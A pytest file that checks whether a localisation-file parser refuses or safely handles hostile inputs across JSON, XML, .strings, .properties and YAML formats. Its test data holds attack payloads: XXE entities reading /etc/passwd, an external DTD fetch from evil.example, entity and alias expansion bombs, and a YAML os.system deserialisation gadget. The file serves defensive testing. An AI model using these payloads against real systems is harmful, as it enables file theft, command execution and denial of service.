"""Hostile localisation files: each is refused with one clear sentence, or is harmless."""

from collections.abc import Callable

import pytest

from service.documents.format import Limits
from tests.support.documents import refusal, through
from tests.support.localisation import ONE_MESSAGE


def with_message(text: str) -> Callable[[str], bytes]:
    return lambda name: ONE_MESSAGE[name].replace("Open %s now", text).encode()


# What can be wrong with a file of any format.
ANY: dict[str, Callable[[str], bytes]] = {
    "nothing": lambda _: b"",
    "half a file": lambda name: with_message("Open it")(name)[:-9],
    "UTF-16 without a mark": lambda name: ONE_MESSAGE[name].encode("utf-16-le"),
    "Latin-1": lambda name: ONE_MESSAGE[name].replace("now", "caf\xe9").encode("latin-1"),
    "a picture": lambda _: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
    "openings": lambda name: ONE_MESSAGE[name][:1].encode() * 500_000,
    "placeholders": with_message("{x} %s " * 9_000),
    "half placeholders": with_message("{{%( ${ " * 30_000),
    "branches": with_message("{n, plural, one {" * 3_000),
    "a long word": with_message("x" * 900_000),
}

DEEP = 20_000
HOSTILE: tuple[tuple[str, bytes], ...] = (
    ("a.json", b'{"a":' * DEEP + b"1" + b"}" * DEEP),
    ("a.json", b"[" * 500_000),
    ("a.json", b'{"a": "' + b"\\" * 50_001),
    ("a.json", b'{"a": "\\ud800 words"}'),
    ("a.json", b'{"a": ' + b"9" * 100_000 + b"}"),
    ("a.json", b'{"a": "' + b"{n, plural, one {" * 3_000 + b'"}'),
    ("a.json", b'{"a": "' + b"x {n, plural, one {a} two {b} few {c} other {d}} " * 150 + b'"}'),
    ("a.json", b"\0{}"),
    ("a.json", b'{"a": NaN, "b": "Words"} x'),
    ("a.arb", b"MZ"),
    ("a.arb", b'{"a": "' + b"{" * 9_000 + b'"}'),
    ("a.properties", b"\\" * 100_001),
    ("a.properties", b"a=" + b"\\\n" * 50_000 + b"x"),
    ("a.properties", b"a" * 500_000),
    ("a.properties", b"a=\\ud800\\u0000 words"),
    ("a.properties", b"a=" + b"{0,choice," * 900),
    ("a.properties", b"=" * 9_000),
    ("a.strings", b"/*" * 100_000),
    ("a.strings", b'"a" = "' + b"\\" * 100_001),
    ("a.strings", b'"' * 100_001),
    ("a.strings", b'#include "/etc/passwd"'),
    ("a.strings", b"a" * 500_000),
    ("strings.xml", b'<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><resources><string>&b;</string></resources>'),
    ("strings.xml", b'<!DOCTYPE r SYSTEM "http://evil.example/x"><resources/>'),
    ("strings.xml", b"<resources>" + b"<a>" * DEEP + b"</a>" * DEEP + b"</resources>"),
    ("strings.xml", b"<resources>" + b"<string>" * 190 + b"x" + b"</string>" * 190 + b"</resources>"),
    ("strings.xml", b"<resources><string>a<![CDATA[<b>]]>b<!-- x --> c</string></resources>"),
    ("strings.xml", b"<resources><string>" + b"&amp;#" * 9_000 + b"x</string></resources>"),
    ("strings.xml", b"<html/>"),
    ("a.stringsdict", b'<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]><plist><string>&x;</string></plist>'),
    ("a.stringsdict", b"bplist00\x00\x01"),
    ("a.ts", b'<!DOCTYPE TS [<!ENTITY a "b">]><TS><message><source>&a;</source></message></TS>'),
    ("a.ts", b"<TS>" + b"<message><source>a" * 150 + b"</source></message>" * 150 + b"</TS>"),
    ("a.ts", b'<TS language="' + b"x" * 9_000 + b'"/>'),
    ("a.yml", b"en: &a [&b [*a, *a], *a]"),
    ("a.yml", b"a: &a [x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]"),
    ("a.yml", b"en: " + b"[" * DEEP),
    ("a.yml", b"en: " + b"{a: " * DEEP),
    ("a.yml", b"en: !!python/object/apply:os.system ['touch /tmp/x']"),
    ("a.yml", b"en:\n  <<: *x\n  a: b"),
    ("a.yml", b"--- \nen: a\n---\nen: b\n"),
    ("a.yml", b"en:\n\ta: b"),
    ("a.yml", b'en: "\\ud800 words"'),
    ("a.yml", b"%YAML 9.9\n---\nen: a"),
    ("a.yml", b"en: |\n" + b"  x\n" * 400),
    ("a.yml", b"? {a: b}\n: c"),
)

FILES = [*((f"{at}-{name}", name, data) for at, (name, data) in enumerate(HOSTILE))]
FILES += [(f"{kind}-{name}", name, make(name)) for kind, make in ANY.items() for name in ONE_MESSAGE]


@pytest.mark.parametrize(("name", "data"), [each[1:] for each in FILES], ids=[each[0] for each in FILES])
def test_a_hostile_file_is_refused_in_one_sentence_or_is_harmless(name: str, data: bytes) -> None:
    assert refusal(name, data, Limits()) or len(through(name, data)) < 3 * len(data) + 1_000
